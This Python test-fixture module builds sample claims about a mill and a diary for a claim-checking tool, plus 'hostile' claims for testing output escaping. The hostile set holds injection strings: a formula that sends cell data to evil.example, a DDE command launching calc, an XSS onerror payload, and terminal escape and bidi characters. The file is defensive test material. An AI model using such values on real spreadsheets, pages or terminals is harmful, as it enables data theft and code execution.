"""Claims to write: everyday ones of each kind, and ones whose every string is hostile.

Evidence is made from the documents' texts, so that its offsets, lines and columns are true.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from report_samples import HOSTILE_NAME, HOSTILE_TEXT, evidence

from claimcheck.values.claims import Claim, Comparison, Evidence, Names, Qualifiers, State
from claimcheck.values.periods import Period
from claimcheck.values.quantities import Quantity

if TYPE_CHECKING:
    from claimcheck.values.claims import ClaimKind, Value

_MILL = "notes/mill.md"
_DIARY = "notes/winter diary, 2nd part.txt"
TEXTS = {
    _MILL: (
        "# Corran Mill\n\nCorran Mill turned about 4,000 tonnes of oats in 2023.\n"
        "It was built on 14 March 1871 by Anna Brae and Iain Brae.\n\n"
        "- It grinds faster than\n  Tarn Mill.\n- Its pond froze at -5 °C.\n"
    ),
    _DIARY: "The mill\u2019s shop, “Höfn”, will close in November.\nIt opens at 9:30 each day, says the miller.\n",
}


def at(name: str, text: str, sentence: str, value: str) -> Evidence:
    """The place of ``value`` in ``sentence`` of a document."""
    place = evidence(name, text, sentence, value, 0)
    return Evidence(
        place.document,
        place.start,
        place.end,
        place.line,
        place.column,
        place.end_line,
        place.end_column,
        place.text,
        place.value_start,
        place.value_end,
    )


def _said(name: str, sentence: str, words: str) -> Evidence:
    return at(name, TEXTS[name], sentence, words)


_YEAR = Period((2023, 1, 1), (2023, 12, 31), "year", text="2023")
_OATS = Claim(
    "quantity",
    "Corran Mill",
    "oat turn",
    Quantity(4000.0, 4000.0, "tonne", "~", "mass", text="about 4,000 tonnes"),
    _said(_MILL, "Corran Mill turned about 4,000 tonnes of oats in 2023.", "about 4,000 tonnes"),
    Qualifiers(time=_YEAR, scope=("total",), tense="past"),
    modality="approximate",
    subject_kind="organization",
)
_BUILT = "It was built on 14 March 1871 by Anna Brae and Iain Brae."
_DAY = Claim(
    "date",
    "Corran Mill",
    "build",
    Period((1871, 3, 14), (1871, 3, 14), "day", text="14 March 1871"),
    _said(_MILL, _BUILT, "14 March 1871"),
)
_BUILDERS = Claim("entity", "Corran Mill", "builder", Names(("Anna Brae", "Iain Brae"), "person"), _DAY.evidence)
_FASTER = Claim(
    "comparison",
    "Corran Mill",
    "",
    Comparison(("Tarn Mill",), "ahead", "speed"),
    _said(_MILL, "It grinds faster than\n  Tarn Mill.", "faster than\n  Tarn Mill"),
)
_COLD = Claim(
    "quantity",
    "",
    "pond freeze",
    Quantity(-5.0, -5.0, "celsius", "=", "temperature", text="-5 °C"),
    _said(_MILL, "Its pond froze at -5 °C.", "-5 °C"),
)
_CLOSED = Claim(
    "state",
    "Höfn",
    "opening",
    State("opening", "closed"),
    _said(_DIARY, "The mill\u2019s shop, “Höfn”, will close in November.", "close"),
    Qualifiers(
        time=Period((0, 11, 1), (0, 11, 30), "month", bound=">"),
        place="Corran",
        variant="mill shop",
        marks=("target",),
    ),
    modality="planned",
)
_OPENS = Claim(
    "date",
    "Höfn",
    "open",
    Period((0, 1, 1), (0, 12, 31), "time", clock=570, text="9:30"),
    _said(_DIARY, "It opens at 9:30 each day, says the miller.", "9:30"),
    modality="attributed",
)
EVERYDAY = (_OATS, _DAY, _BUILDERS, _FASTER, _COLD, _CLOSED, _OPENS)
"""Sorted as the command sorts them."""

_FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"go")',
    "+1-800",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
)


def _formula(number: int, formula: str) -> Claim:
    """A claim whose subject, attribute and names are a formula."""
    name = f"{formula}{number}.txt"
    place = Evidence(name, 0, len(formula), 1, 1, 1, 1 + len(formula), formula, 0, len(formula))
    return Claim("entity", formula, formula, Names((formula, formula)), place, Qualifiers(place=formula))


def hostile(kind: ClaimKind, value: Value) -> Claim:
    """A claim of which every string tries to break out."""
    return Claim(
        kind,
        "[red]Prices[/red]\n# Heading <img src=x onerror=alert(1)>",
        "rise | of \x1b[1m*all*",
        value,
        at(HOSTILE_NAME, HOSTILE_TEXT, HOSTILE_TEXT, "**40%**"),
        Qualifiers(place="[a](http://evil.example)", variant="in `2024`, \"x\"; 'y'", marks=("\x9b31m", "a | b")),
        modality="denied",
    )


HOSTILE = (
    *(_formula(number, formula) for number, formula in enumerate(_FORMULAS)),
    hostile("comparison", Comparison(("<b>A</b>", "B\u202e, C"), "behind", "=cmd|'/c calc'!A1")),
    hostile("entity", Names(("**40%** | \x1b[31m", "- 50%\r\n- 60%"))),
    hostile("quantity", Quantity(-1e-7, 1.5e15, "\x1b]0;unit\x07|", "<", text="40%\n| 50% |")),
    hostile("state", State("rel|ease", "[bold]out[/bold]\ud800")),
)
